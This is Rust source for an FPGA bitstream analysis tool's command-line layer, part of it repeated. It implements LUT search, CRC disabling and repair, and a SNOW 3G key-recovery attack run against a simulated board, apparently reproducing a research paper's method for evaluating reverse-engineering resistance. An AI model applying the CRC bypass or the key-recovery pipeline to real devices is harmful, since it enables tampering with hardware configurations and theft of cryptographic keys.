        let name = function;
        for h in &hits {
            let _ = writeln!(out, "{}", lut_hit_json(name, range.start + h.hit.l, &h.hit));
        }
        return Ok(out);
    }
    let _ = writeln!(out, "searching for {label}");
    let _ = writeln!(
        out,
        "payload: {} bytes at file offset {}; d = {d}, r = 4, k = 6",
        payload.len(),
        range.start
    );
    let _ = writeln!(out, "{} hit(s) in {:.1} ms:", hits.len(), dt.as_secs_f64() * 1e3);
    for h in &hits {
        let h = &h.hit;
        let _ = writeln!(
            out,
            "  l = {:>8}  (file offset {:>8})  order = {:?}  perm = {}  init = {}",
            h.l,
            range.start + h.l,
            h.order,
            h.perm,
            h.init
        );
    }
    Ok(out)
}

/// `table2`: the full candidate sweep over a bitstream — the whole
/// catalogue in a single [`Scanner`] pass. With `json`, emits one
/// record per hit instead of the count table.
///
/// # Errors
///
/// Propagates payload errors.
pub fn cmd_table2(bs: &Bitstream, d: usize, json: bool) -> Result<String, CliError> {
    let range = bs.fdri_data_range().ok_or(CliError::NoPayload)?;
    let payload = &bs.as_bytes()[range.clone()];
    let catalogue = Catalogue::full();
    let scanner = Scanner::builder().k(6).stride(d).catalogue(&catalogue).build()?;
    let mut out = String::new();
    use fmt::Write;
    if json {
        for h in scanner.scan(payload) {
            let name = catalogue.shapes[h.candidate].name;
            let _ = writeln!(out, "{}", lut_hit_json(name, range.start + h.hit.l, &h.hit));
        }
        return Ok(out);
    }
    let _ = writeln!(out, "candidate sweep (Table II analog):");
    let _ = writeln!(out, "  shape |  hits | formula");
    for (shape, hits) in catalogue.shapes.iter().zip(scanner.scan_grouped(payload)) {
        let _ = writeln!(out, "  {:>5} | {:>5} | {}", shape.name, hits.len(), shape.formula);
    }
    Ok(out)
}

/// `xorscan`: the Section VII-B dual-output XOR-half scan.
///
/// # Errors
///
/// Propagates payload errors.
pub fn cmd_xorscan(
    bs: &Bitstream,
    d: usize,
    window: Option<(usize, usize)>,
) -> Result<String, CliError> {
    let range = bs.fdri_data_range().ok_or(CliError::NoPayload)?;
    let payload = &bs.as_bytes()[range];
    let w = window.map_or(0..payload.len(), |(a, b)| a..b.min(payload.len()));
    let hits = xor_half_scan(payload, d, w.clone());
    let mut out = String::new();
    use fmt::Write;
    let _ = writeln!(
        out,
        "XOR-half scan over bytes {}..{}: {} candidate LUT(s)",
        w.start,
        w.end,
        hits.len()
    );
    for h in hits.iter().take(20) {
        let halves = [h.init.o5(), h.init.o6_fractured()];
        let desc: Vec<String> = halves
            .iter()
            .map(|t| match t.as_xor_pair() {
                Some((x, y)) => format!("a{x}^a{y}"),
                None => format!("{t}"),
            })
            .collect();
        let _ = writeln!(
            out,
            "  l = {:>8}  order = {:?}  O5 = {}, O6 = {}",
            h.l, h.order, desc[0], desc[1]
        );
    }
    if hits.len() > 20 {
        let _ = writeln!(out, "  ... and {} more", hits.len() - 20);
    }
    Ok(out)
}

/// `packets`: decodes the configuration packet stream.
#[must_use]
pub fn cmd_packets(bs: &Bitstream) -> String {
    let mut out = String::new();
    use fmt::Write;
    for (offset, p) in bs.packets() {
        match &p {
            Packet::Nop => {} // keep the listing short
            other => {
                let _ = writeln!(out, "  {offset:>8}: {other}");
            }
        }
    }
    out
}

/// `crc`: repairs or disables the configuration CRC; returns the
/// modified bitstream and a message.
#[must_use]
pub fn cmd_crc(bs: &Bitstream, disable: bool) -> (Bitstream, String) {
    let mut out = bs.clone();
    if disable {
        let n = out.disable_crc();
        (out, format!("zeroed {n} CRC packet(s)"))
    } else {
        let ok = out.recompute_crc();
        (out, if ok { "CRC recomputed".into() } else { "no CRC packet found".into() })
    }
}

/// `diff`: lists the byte ranges where two bitstreams differ.
#[must_use]
pub fn cmd_diff(a: &Bitstream, b: &Bitstream) -> String {
    use fmt::Write;
    let ranges = a.diff(b);
    let mut out = String::new();
    let total: usize = ranges.iter().map(|r| r.len()).sum();
    let _ = writeln!(out, "{} differing range(s), {total} byte(s):", ranges.len());
    for r in &ranges {
        let _ = writeln!(out, "  bytes {:>8}..{:<8} ({} byte(s))", r.start, r.end, r.len());
    }
    out
}

/// The default sub-vector stride.
#[must_use]
pub fn default_stride() -> usize {
    FRAME_BYTES
}

#[cfg(test)]
mod tests {
    use super::*;
    use bitstream::{codec, BitstreamBuilder, FrameData, LutLocation, SubVectorOrder};
    use boolfn::DualOutputInit;

    fn sample() -> Bitstream {
        let mut frames = FrameData::new(8);
        let f2 = Catalogue::full().shape("f2").unwrap().truth;
        codec::write_lut(
            frames.as_mut_bytes(),
            LutLocation { l: 42, d: FRAME_BYTES, order: SubVectorOrder::SliceM },
            DualOutputInit::from_single(f2),
        );
        BitstreamBuilder::new(frames).build()
    }

    #[test]
    fn resolve_by_name_and_formula() {
        let (label, t1) = resolve_function("f2").unwrap();
        assert!(label.starts_with("f2 ="));
        let (_, t2) = resolve_function("(a1^a2^a3) a4 a5 ~a6").unwrap();
        assert_eq!(t1, t2);
        assert!(resolve_function("not-a-function!!").is_err());
    }

    #[test]
    fn findlut_reports_the_plant() {
        let bs = sample();
        let report = cmd_findlut(&bs, "f2", FRAME_BYTES, false).unwrap();
        assert!(report.contains("l =       42"), "{report}");
        assert!(report.contains("SliceM"), "{report}");
    }

    #[test]
    fn findlut_json_record_format_is_stable() {
        let bs = sample();
        let out = cmd_findlut(&bs, "f2", FRAME_BYTES, true).unwrap();
        let line =
            out.lines().find(|l| l.contains("\"l\":42,")).expect("planted hit emitted as JSON");
        // The exact record is part of the CLI contract.
        let file_offset = bs.fdri_data_range().unwrap().start + 42;
        let f2 = Catalogue::full().shape("f2").unwrap().truth;
        let init = DualOutputInit::from_single(f2).init();
        assert_eq!(
            line,
            format!(
                "{{\"candidate\":\"f2\",\"l\":42,\"file_offset\":{file_offset},\
                 \"order\":\"SliceM\",\"perm\":[0,1,2,3,4,5],\"init\":\"{init:#018x}\"}}"
            )
        );
    }

    #[test]
    fn table2_lists_all_shapes() {
        let bs = sample();
        let report = cmd_table2(&bs, FRAME_BYTES, false).unwrap();
        for name in ["f2", "m0b", "f21"] {
            assert!(report.contains(name), "{report}");
        }
    }

    #[test]
    fn table2_json_names_the_candidate() {
        let bs = sample();
        let out = cmd_table2(&bs, FRAME_BYTES, true).unwrap();
        assert!(
            out.lines().any(|l| l.contains("\"candidate\":\"f2\"") && l.contains("\"l\":42,")),
            "{out}"
        );
    }

    #[test]
    fn config_errors_surface_with_source() {
        use std::error::Error;
        let bs = sample();
        let err = cmd_findlut(&bs, "f2", 0, false).unwrap_err();
        assert!(matches!(err, CliError::Config(_)));
        assert!(err.source().is_some());
    }

    #[test]
    fn xorscan_runs() {
        let bs = sample();
        let report = cmd_xorscan(&bs, FRAME_BYTES, None).unwrap();
        assert!(report.contains("XOR-half scan"));
        let windowed = cmd_xorscan(&bs, FRAME_BYTES, Some((0, 100))).unwrap();
        assert!(windowed.contains("bytes 0..100"));
    }

    #[test]
    fn packets_lists_writes() {
        let bs = sample();
        let listing = cmd_packets(&bs);
        assert!(listing.contains("write Fdri"), "{listing}");
        assert!(listing.contains("write Crc"), "{listing}");
    }

    #[test]
    fn diff_command() {
        let a = sample();
        let mut b = a.clone();
        let range = b.fdri_data_range().unwrap();
        b.as_mut_bytes()[range.start + 5] ^= 1;
        let report = cmd_diff(&a, &b);
        assert!(report.contains("1 differing range(s), 1 byte(s)"), "{report}");
    }

    #[test]
    fn crc_commands() {
        let bs = sample();
        let (disabled, msg) = cmd_crc(&bs, true);
        assert!(msg.contains("zeroed 1"));
        assert!(!disabled.parse().unwrap().crc_checked);

        let mut broken = bs.clone();
        let range = broken.fdri_data_range().unwrap();
        broken.as_mut_bytes()[range.start] ^= 1;
        let (fixed, msg) = cmd_crc(&broken, false);
        assert!(msg.contains("recomputed"));
        assert!(fixed.parse().unwrap().crc_checked);
    }
}
