//! The command-line surface of the tool: text-mode operations over
//! bitstream files. The `bitmod` binary is a thin wrapper; the logic
//! lives here so it can be tested.
//!
//! The paper describes the artifact as "a tool which automatically
//! finds a k-input LUT implementing a given k-variable Boolean
//! function and all Boolean functions within the same P equivalence
//! class in the bitstream ... intended to assist in evaluating
//! resistance of FPGAs to reverse engineering and bitstream
//! modification".

use core::fmt;

use boolfn::expr::Expr;
use boolfn::TruthTable;

use bitstream::{Bitstream, Packet, FRAME_BYTES};

use crate::attack::AttackError;
use crate::candidates::Catalogue;
use crate::countermeasure::xor_half_scan;
use crate::findlut::{LutHit, ScanConfigError, Scanner};
use crate::fleet::{
    ConfigError, ResumePolicy, SessionError, SessionIo, SessionOutcome, SessionSpec,
};

/// An error from a CLI operation.
#[derive(Debug)]
#[non_exhaustive]
pub enum CliError {
    /// The function argument was neither a catalogue name nor a
    /// parsable formula.
    BadFunction {
        /// The offending argument.
        arg: String,
        /// The parser's complaint.
        parse: boolfn::expr::ParseExprError,
    },
    /// The bitstream has no FDRI payload.
    NoPayload,
    /// Malformed command-line usage.
    Usage(String),
    /// The requested scan configuration was invalid.
    Config(ScanConfigError),
    /// Building the simulated victim board failed.
    Board(fpga_sim::BoardError),
    /// The attack pipeline aborted.
    Attack(AttackError),
    /// The telemetry trace sink could not be opened or written.
    Telemetry(crate::telemetry::TelemetryError),
    /// The attack flags did not form a valid session spec.
    Spec(ConfigError),
    /// The session harness failed outside the attack pipeline.
    Session(SessionError),
}

impl fmt::Display for CliError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CliError::BadFunction { arg, parse } => {
                write!(f, "'{arg}' is not a candidate name or formula ({parse})")
            }
            CliError::NoPayload => write!(f, "bitstream has no FDRI payload"),
            CliError::Usage(msg) => write!(f, "usage: {msg}"),
            CliError::Config(e) => write!(f, "invalid scan configuration: {e}"),
            CliError::Board(e) => write!(f, "victim board construction failed: {e}"),
            CliError::Attack(e) => write!(f, "attack failed: {e}"),
            CliError::Telemetry(e) => write!(f, "telemetry failure: {e}"),
            CliError::Spec(e) => write!(f, "invalid session spec: {e}"),
            CliError::Session(e) => write!(f, "session failed: {e}"),
        }
    }
}

impl std::error::Error for CliError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            CliError::BadFunction { parse, .. } => Some(parse),
            CliError::Config(e) => Some(e),
            CliError::Board(e) => Some(e),
            CliError::Attack(e) => Some(e),
            CliError::Telemetry(e) => Some(e),
            CliError::Spec(e) => Some(e),
            CliError::Session(e) => Some(e),
            _ => None,
        }
    }
}

impl From<ScanConfigError> for CliError {
    fn from(e: ScanConfigError) -> Self {
        CliError::Config(e)
    }
}

impl From<fpga_sim::BoardError> for CliError {
    fn from(e: fpga_sim::BoardError) -> Self {
        CliError::Board(e)
    }
}

impl From<AttackError> for CliError {
    fn from(e: AttackError) -> Self {
        CliError::Attack(e)
    }
}

impl From<crate::telemetry::TelemetryError> for CliError {
    fn from(e: crate::telemetry::TelemetryError) -> Self {
        CliError::Telemetry(e)
    }
}

impl From<ConfigError> for CliError {
    fn from(e: ConfigError) -> Self {
        CliError::Spec(e)
    }
}

impl From<SessionError> for CliError {
    fn from(e: SessionError) -> Self {
        // Unwrap the variants with established CLI renderings so
        // error text stays stable across the facade migration.
        match e {
            SessionError::Board(e) => CliError::Board(e),
            SessionError::Attack(e) => CliError::Attack(e),
            SessionError::Telemetry(e) => CliError::Telemetry(e),
            other => CliError::Session(other),
        }
    }
}

/// Resolves a function argument: a catalogue shape name (`f2`, `m0b`,
/// ...) or a formula over `a1..a6` (`"(a1^a2^a3) a4 a5 ~a6"`).
///
/// # Errors
///
/// Returns [`CliError::BadFunction`] if neither interpretation works.
pub fn resolve_function(arg: &str) -> Result<(String, TruthTable), CliError> {
    if let Some(shape) = Catalogue::full().shape(arg) {
        return Ok((format!("{} = {}", shape.name, shape.formula), shape.truth));
    }
    match arg.parse::<Expr>() {
        Ok(e) => Ok((format!("{e}"), e.truth_table(6))),
        Err(parse) => Err(CliError::BadFunction { arg: arg.to_string(), parse }),
    }
}

/// Serializes one [`LutHit`] as a stable single-line JSON record.
///
/// The field set and order are part of the CLI contract (consumers
/// may line-split and parse): `candidate`, `l`, `file_offset`,
/// `order`, `perm`, `init`.
#[must_use]
pub fn lut_hit_json(candidate: &str, file_offset: usize, hit: &LutHit) -> String {
    let perm: Vec<String> = hit.perm.as_slice().iter().map(u8::to_string).collect();
    format!(
        "{{\"candidate\":\"{}\",\"l\":{},\"file_offset\":{},\"order\":\"{:?}\",\"perm\":[{}],\"init\":\"{:#018x}\"}}",
        candidate.escape_default(),
        hit.l,
        file_offset,
        hit.order,
        perm.join(","),
        hit.init.init()
    )
}

/// `findlut`: searches a bitstream for a function's P class; returns a
/// printable report, or (with `json`) one JSON record per hit.
///
/// # Errors
///
/// Propagates argument and payload errors.
pub fn cmd_findlut(
    bs: &Bitstream,
    function: &str,
    d: usize,
    json: bool,
) -> Result<String, CliError> {
    let (label, truth) = resolve_function(function)?;
    let range = bs.fdri_data_range().ok_or(CliError::NoPayload)?;
    let payload = &bs.as_bytes()[range.clone()];
    let scanner = Scanner::builder().k(6).stride(d).candidate(truth).build()?;
    let t0 = std::time::Instant::now();
    let hits = scanner.scan(payload);
    let dt = t0.elapsed();
    let mut out = String::new();
    use fmt::Write;
    if json {
        let name = function;
        for h in &hits {
            let _ = writeln!(out, "{}", lut_hit_json(name, range.start + h.hit.l, &h.hit));
        }
        return Ok(out);
    }
    let _ = writeln!(out, "searching for {label}");
    let _ = writeln!(
        out,
        "payload: {} bytes at file offset {}; d = {d}, r = 4, k = 6",
        payload.len(),
        range.start
    );
    let _ = writeln!(out, "{} hit(s) in {:.1} ms:", hits.len(), dt.as_secs_f64() * 1e3);
    for h in &hits {
        let h = &h.hit;
        let _ = writeln!(
            out,
            "  l = {:>8}  (file offset {:>8})  order = {:?}  perm = {}  init = {}",
            h.l,
            range.start + h.l,
            h.order,
            h.perm,
            h.init
        );
    }
    Ok(out)
}

/// `table2`: the full candidate sweep over a bitstream — the whole
/// catalogue in a single [`Scanner`] pass. With `json`, emits one
/// record per hit instead of the count table.
///
/// # Errors
///
/// Propagates payload errors.
pub fn cmd_table2(bs: &Bitstream, d: usize, json: bool) -> Result<String, CliError> {
    let range = bs.fdri_data_range().ok_or(CliError::NoPayload)?;
    let payload = &bs.as_bytes()[range.clone()];
    let catalogue = Catalogue::full();
    let scanner = Scanner::builder().k(6).stride(d).catalogue(&catalogue).build()?;
    let mut out = String::new();
    use fmt::Write;
    if json {
        for h in scanner.scan(payload) {
            let name = catalogue.shapes[h.candidate].name;
            let _ = writeln!(out, "{}", lut_hit_json(name, range.start + h.hit.l, &h.hit));
        }
        return Ok(out);
    }
    let _ = writeln!(out, "candidate sweep (Table II analog):");
    let _ = writeln!(out, "  shape |  hits | formula");
    for (shape, hits) in catalogue.shapes.iter().zip(scanner.scan_grouped(payload)) {
        let _ = writeln!(out, "  {:>5} | {:>5} | {}", shape.name, hits.len(), shape.formula);
    }
    Ok(out)
}

/// `xorscan`: the Section VII-B dual-output XOR-half scan.
///
/// # Errors
///
/// Propagates payload errors.
pub fn cmd_xorscan(
    bs: &Bitstream,
    d: usize,
    window: Option<(usize, usize)>,
) -> Result<String, CliError> {
    let range = bs.fdri_data_range().ok_or(CliError::NoPayload)?;
    let payload = &bs.as_bytes()[range];
    let w = window.map_or(0..payload.len(), |(a, b)| a..b.min(payload.len()));
    let hits = xor_half_scan(payload, d, w.clone());
    let mut out = String::new();
    use fmt::Write;
    let _ = writeln!(
        out,
        "XOR-half scan over bytes {}..{}: {} candidate LUT(s)",
        w.start,
        w.end,
        hits.len()
    );
    for h in hits.iter().take(20) {
        let halves = [h.init.o5(), h.init.o6_fractured()];
        let desc: Vec<String> = halves
            .iter()
            .map(|t| match t.as_xor_pair() {
                Some((x, y)) => format!("a{x}^a{y}"),
                None => format!("{t}"),
            })
            .collect();
        let _ = writeln!(
            out,
            "  l = {:>8}  order = {:?}  O5 = {}, O6 = {}",
            h.l, h.order, desc[0], desc[1]
        );
    }
    if hits.len() > 20 {
        let _ = writeln!(out, "  ... and {} more", hits.len() - 20);
    }
    Ok(out)
}

/// `packets`: decodes the configuration packet stream.
#[must_use]
pub fn cmd_packets(bs: &Bitstream) -> String {
    let mut out = String::new();
    use fmt::Write;
    for (offset, p) in bs.packets() {
        match &p {
            Packet::Nop => {} // keep the listing short
            other => {
                let _ = writeln!(out, "  {offset:>8}: {other}");
            }
        }
    }
    out
}

/// `crc`: repairs or disables the configuration CRC; returns the
/// modified bitstream and a message.
#[must_use]
pub fn cmd_crc(bs: &Bitstream, disable: bool) -> (Bitstream, String) {
    let mut out = bs.clone();
    if disable {
        let n = out.disable_crc();
        (out, format!("zeroed {n} CRC packet(s)"))
    } else {
        let ok = out.recompute_crc();
        (out, if ok { "CRC recomputed".into() } else { "no CRC packet found".into() })
    }
}

/// `diff`: lists the byte ranges where two bitstreams differ.
#[must_use]
pub fn cmd_diff(a: &Bitstream, b: &Bitstream) -> String {
    use fmt::Write;
    let ranges = a.diff(b);
    let mut out = String::new();
    let total: usize = ranges.iter().map(|r| r.len()).sum();
    let _ = writeln!(out, "{} differing range(s), {total} byte(s):", ranges.len());
    for r in &ranges {
        let _ = writeln!(out, "  bytes {:>8}..{:<8} ({} byte(s))", r.start, r.end, r.len());
    }
    out
}

/// The default sub-vector stride.
#[must_use]
pub fn default_stride() -> usize {
    FRAME_BYTES
}

/// The pre-0.7 field bag behind `bitmod attack`.
///
/// Superseded by the validating session facade: build a
/// [`SessionSpec`] (via [`SessionSpec::builder`] or
/// [`AttackOptions::into_spec`]) and pass it to [`cmd_attack`] — the
/// spec validates every field up front with typed [`ConfigError`]s
/// where this struct silently accepted nonsense (even vote counts,
/// rates above 1, a zero budget).
#[deprecated(
    since = "0.7.0",
    note = "build a fleet::SessionSpec instead (SessionSpec::builder() or \
            AttackOptions::into_spec()) and pass it to cmd_attack"
)]
#[derive(Debug, Clone)]
pub struct AttackOptions {
    /// Run against an [`fpga_sim::UnreliableBoard`] instead of the
    /// ideal board.
    pub noisy: bool,
    /// Seed for the fault model and the resilience jitter.
    pub seed: u64,
    /// Per-bit keystream glitch probability (noisy mode).
    pub glitch: f64,
    /// Transient load-failure probability (noisy mode).
    pub load_fail: f64,
    /// Majority-vote reads per oracle query (noisy mode).
    pub votes: u32,
    /// Cap on physical oracle attempts (`None` = unlimited).
    pub budget: Option<u64>,
    /// Sub-vector stride `d`.
    pub stride: usize,
    /// Persist a crash-safe journal here after every completed work
    /// item.
    pub journal: Option<std::path::PathBuf>,
    /// Resume a previous (killed or budget-cut) run from the journal
    /// instead of starting fresh. Requires `journal`.
    pub resume: bool,
    /// Stream telemetry events (NDJSON, one object per line) to this
    /// path and append the end-of-run summary table to the output.
    pub trace: Option<std::path::PathBuf>,
    /// Issue batched oracle queries (up to 64 per call, matching the
    /// gang simulator's lane count) in the phases with precomputable
    /// work lists. The recovered key, per-query keystreams and load
    /// accounting are identical to a serial run.
    pub batch: bool,
}

#[allow(deprecated)]
impl Default for AttackOptions {
    fn default() -> Self {
        Self {
            noisy: false,
            seed: 1,
            glitch: 0.01,
            load_fail: 0.10,
            votes: 5,
            budget: None,
            stride: FRAME_BYTES,
            journal: None,
            resume: false,
            trace: None,
            batch: false,
        }
    }
}

#[allow(deprecated)]
impl AttackOptions {
    /// Migrates this field bag into a validated [`SessionSpec`] — the
    /// bridge for callers moving off the deprecated options struct.
    /// `batch: true` maps to the full gang width, as `--batch` did.
    ///
    /// # Errors
    ///
    /// The first [`ConfigError`] the validating builder finds.
    pub fn into_spec(&self) -> Result<SessionSpec, ConfigError> {
        let mut b = SessionSpec::builder()
            .noisy(self.noisy)
            .seed(self.seed)
            .glitch(self.glitch)
            .load_fail(self.load_fail)
            .votes(self.votes)
            .stride(self.stride)
            .batch(if self.batch { fpga_sim::GANG_LANES } else { 1 })
            .resume(self.resume);
        if let Some(budget) = self.budget {
            b = b.budget(budget);
        }
        if let Some(path) = &self.journal {
            b = b.journal(path.clone());
        }
        if let Some(path) = &self.trace {
            b = b.trace(path.clone());
        }
        b.build()
    }
}

/// `attack`: builds the simulated SNOW 3G victim (ETSI Test Set 1)
/// and runs the full key-recovery pipeline against it. With `noisy`,
/// the board is wrapped in the seeded fault model and the attack
/// queries through the resilience layer (retry + majority vote +
/// budget). Budget exhaustion is reported as a structured partial
/// result, not an error.
///
/// With `journal`, the attack persists a crash-safe checkpoint after
/// every completed work item; with `resume`, it continues a previous
/// run from that journal instead of starting over (the journalled
/// resilience configuration is authoritative, except that a fresh
/// `budget` may raise the cap of the resumed run).
///
/// # Errors
///
/// Propagates board-construction, journal and attack failures;
/// [`CliError::Session`] when the spec/run-site combination is
/// invalid (e.g. `--resume` pointing at a journal that does not
/// exist).
pub fn cmd_attack(spec: &SessionSpec) -> Result<String, CliError> {
    use fmt::Write;
    let config = netlist::snow3g_circuit::Snow3gCircuitConfig::unprotected(
        snow3g::vectors::TEST_SET_1_KEY,
        snow3g::vectors::TEST_SET_1_IV,
    );
    let board = fpga_sim::Snow3gBoard::build(config, &fpga_sim::ImplementOptions::default())?;

    let mut out = String::new();
    let telemetry = match spec.trace_path() {
        Some(path) => {
            let t = crate::telemetry::Telemetry::to_path(path)?;
            let _ = writeln!(out, "tracing to {}", path.display());
            t
        }
        None => crate::telemetry::Telemetry::off(),
    };
    if spec.noisy {
        let _ = writeln!(
            out,
            "noisy mode: glitch {:.2}%/bit, load failure {:.1}%, {} votes, seed {}",
            spec.glitch * 100.0,
            spec.load_fail * 100.0,
            spec.votes,
            spec.seed
        );
    }
    if spec.encrypted {
        let _ = writeln!(
            out,
            "encrypted container: Fig. 1 seal (AES-256-CBC + HMAC-SHA-256), \
             {} SCA traces budgeted",
            spec.sca_traces
        );
    }
    if spec.resume {
        // A validated spec cannot carry `resume` without a journal.
        let path = spec.journal_path().expect("spec validation ties resume to a journal");
        let _ = writeln!(out, "resuming from journal {}", path.display());
    } else if let Some(path) = spec.journal_path() {
        let _ = writeln!(out, "journalling to {}", path.display());
    }
    if spec.batch > 1 {
        let _ = writeln!(out, "batched oracle: up to {} queries per pass", spec.batch);
    }
    if spec.partial {
        let _ = writeln!(
            out,
            "partial reconfiguration: candidates ship as frame-delta streams \
             (first load full, rollbacks ride the next delta)"
        );
    }

    let io = SessionIo {
        journal: spec.journal_path().map(std::path::Path::to_path_buf),
        resume: if spec.resume { ResumePolicy::Require } else { ResumePolicy::Never },
        telemetry: telemetry.clone(),
        cancel: crate::campaign::CancelToken::new(),
        // The CLI demo trusts the pipeline's own verification pass
        // (as it always has) rather than cross-checking the key.
        expected_key: None,
    };
    let report = if spec.noisy {
        let board = fpga_sim::UnreliableBoard::new(board, spec.fault_profile());
        let golden = board.extract_bitstream();
        let report = spec.run_harnessed(&board, golden, &io)?;
        // Board-side fault accounting (faults *injected*) — recorded
        // after the run so the trace can set it against the retries
        // the attack *observed* (glitched bits that majority voting
        // outvotes never surface as retries).
        crate::fleet::session::record_board_faults(&telemetry, &board);
        report
    } else {
        let golden = board.extract_bitstream();
        spec.run_harnessed(&board, golden, &io)?
    };

    match (&report.attack, &report.checkpoint) {
        (Some(report), _) => {
            let _ = writeln!(out, "recovered key: {}", report.recovered.key);
            let _ = writeln!(out, "recovered iv:  {}", report.recovered.iv);
            let _ = writeln!(
                out,
                "oracle loads: {} physical ({} logical queries, {} retries absorbed, \
                 {} ballots, {} virtual ms backing off)",
                report.oracle_loads,
                report.resilience.queries,
                report.resilience.transient_errors,
                report.resilience.votes_cast,
                report.resilience.backoff_ms
            );
            let _ = writeln!(
                out,
                "verified: {} keystream-path LUTs, {} feedback LUTs, {} dead candidates",
                report.z_luts.len(),
                report.feedback_luts.len(),
                report.dead_candidates
            );
        }
        (None, Some(checkpoint)) => {
            let _ = writeln!(out, "query budget exhausted: {}", report.outcome.note());
            let _ = writeln!(out, "partial result: {checkpoint}");
            let _ = writeln!(
                out,
                "  verified z-path bits: {:032b}",
                checkpoint.z_luts.iter().fold(0u32, |m, z| m | 1 << z.bit)
            );
            if let Some(path) = spec.journal_path() {
                let _ = writeln!(
                    out,
                    "journal saved: rerun with --journal {} --resume --budget N to continue",
                    path.display()
                );
            }
        }
        (None, None) => {
            // Cancelled (no cancel source exists on this path, but
            // the facade's contract allows it).
            let _ = writeln!(out, "session {}", SessionOutcome::Cancelled.state_str());
        }
    }
    if telemetry.is_enabled() {
        telemetry.finish()?;
        out.push_str(&telemetry.summary_table());
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use bitstream::{codec, BitstreamBuilder, FrameData, LutLocation, SubVectorOrder};
    use boolfn::DualOutputInit;

    /// Tests propagate failures with `?` instead of unwrapping: a
    /// failing assertion should name the failed step, not panic in a
    /// combinator.
    type TestResult = Result<(), Box<dyn std::error::Error>>;

    fn sample() -> Result<Bitstream, Box<dyn std::error::Error>> {
        let mut frames = FrameData::new(8);
        let f2 = Catalogue::full().shape("f2").ok_or("f2 missing from catalogue")?.truth;
        codec::write_lut(
            frames.as_mut_bytes(),
            LutLocation { l: 42, d: FRAME_BYTES, order: SubVectorOrder::SliceM },
            DualOutputInit::from_single(f2),
        );
        Ok(BitstreamBuilder::new(frames).build())
    }

    #[test]
    fn resolve_by_name_and_formula() -> TestResult {
        let (label, t1) = resolve_function("f2")?;
        assert!(label.starts_with("f2 ="));
        let (_, t2) = resolve_function("(a1^a2^a3) a4 a5 ~a6")?;
        assert_eq!(t1, t2);
        assert!(resolve_function("not-a-function!!").is_err());
        Ok(())
    }

    #[test]
    fn findlut_reports_the_plant() -> TestResult {
        let bs = sample()?;
        let report = cmd_findlut(&bs, "f2", FRAME_BYTES, false)?;
        assert!(report.contains("l =       42"), "{report}");
        assert!(report.contains("SliceM"), "{report}");
        Ok(())
    }

    #[test]
    fn findlut_json_record_format_is_stable() -> TestResult {
        let bs = sample()?;
        let out = cmd_findlut(&bs, "f2", FRAME_BYTES, true)?;
        let line =
            out.lines().find(|l| l.contains("\"l\":42,")).ok_or("planted hit missing from JSON")?;
        // The exact record is part of the CLI contract.
        let file_offset = bs.fdri_data_range().ok_or(CliError::NoPayload)?.start + 42;
        let f2 = Catalogue::full().shape("f2").ok_or("f2 missing from catalogue")?.truth;
        let init = DualOutputInit::from_single(f2).init();
        assert_eq!(
            line,
            format!(
                "{{\"candidate\":\"f2\",\"l\":42,\"file_offset\":{file_offset},\
                 \"order\":\"SliceM\",\"perm\":[0,1,2,3,4,5],\"init\":\"{init:#018x}\"}}"
            )
        );
        Ok(())
    }

    #[test]
    fn table2_lists_all_shapes() -> TestResult {
        let bs = sample()?;
        let report = cmd_table2(&bs, FRAME_BYTES, false)?;
        for name in ["f2", "m0b", "f21"] {
            assert!(report.contains(name), "{report}");
        }
        Ok(())
    }

    #[test]
    fn table2_json_names_the_candidate() -> TestResult {
        let bs = sample()?;
        let out = cmd_table2(&bs, FRAME_BYTES, true)?;
        assert!(
            out.lines().any(|l| l.contains("\"candidate\":\"f2\"") && l.contains("\"l\":42,")),
            "{out}"
        );
        Ok(())
    }

    #[test]
    fn config_errors_surface_with_source() -> TestResult {
        use std::error::Error;
        let bs = sample()?;
        let Err(err) = cmd_findlut(&bs, "f2", 0, false) else {
            return Err("zero stride must be rejected".into());
        };
        assert!(matches!(err, CliError::Config(_)));
        assert!(err.source().is_some());
        Ok(())
    }

    #[test]
    fn xorscan_runs() -> TestResult {
        let bs = sample()?;
        let report = cmd_xorscan(&bs, FRAME_BYTES, None)?;
        assert!(report.contains("XOR-half scan"));
        let windowed = cmd_xorscan(&bs, FRAME_BYTES, Some((0, 100)))?;
        assert!(windowed.contains("bytes 0..100"));
        Ok(())
    }

    #[test]
    fn packets_lists_writes() -> TestResult {
        let bs = sample()?;
        let listing = cmd_packets(&bs);
        assert!(listing.contains("write Fdri"), "{listing}");
        assert!(listing.contains("write Crc"), "{listing}");
        Ok(())
    }

    #[test]
    fn diff_command() -> TestResult {
        let a = sample()?;
        let mut b = a.clone();
        let range = b.fdri_data_range().ok_or(CliError::NoPayload)?;
        b.as_mut_bytes()[range.start + 5] ^= 1;
        let report = cmd_diff(&a, &b);
        assert!(report.contains("1 differing range(s), 1 byte(s)"), "{report}");
        Ok(())
    }

    #[test]
    fn crc_commands() -> TestResult {
        let bs = sample()?;
        let (disabled, msg) = cmd_crc(&bs, true);
        assert!(msg.contains("zeroed 1"));
        assert!(!disabled.parse()?.crc_checked);

        let mut broken = bs.clone();
        let range = broken.fdri_data_range().ok_or(CliError::NoPayload)?;
        broken.as_mut_bytes()[range.start] ^= 1;
        let (fixed, msg) = cmd_crc(&broken, false);
        assert!(msg.contains("recomputed"));
        assert!(fixed.parse()?.crc_checked);
        Ok(())
    }

    #[test]
    fn attack_error_conversions_chain() {
        use std::error::Error;
        let e: CliError = AttackError::NoFdriPayload.into();
        assert!(matches!(e, CliError::Attack(_)));
        assert!(e.source().is_some());
        let e: crate::error::Error = CliError::NoPayload.into();
        assert!(e.to_string().starts_with("cli:"));
    }
}
