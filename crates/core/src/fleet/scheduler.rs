//! The work-stealing worker pool: N board-backed workers sharding
//! attack sessions, with kill-and-steal recovery over the crash-safe
//! journals.
//!
//! Scheduling is deliberately simple — one mutex over an injector
//! queue plus per-worker queues, a condvar, and steal-back-half when
//! a worker runs dry — because the unit of work (a full key-recovery
//! session, hundreds of physical loads) is enormous compared to the
//! cost of a queue operation. What makes the pool a *fleet* rather
//! than a thread pool is the recovery contract: every session is
//! journalled write-ahead into its own
//! [`SessionLayout`](super::layout::SessionLayout), so a worker that
//! dies mid-session (the in-process kill switch here, `SIGKILL` of
//! the whole daemon in the serve smoke test) leaves a journal a peer
//! picks up and resumes to the *bit-identical* query trace — the same
//! guarantee `tests/resume.rs` pins for single runs, lifted to the
//! fleet.

use std::collections::VecDeque;
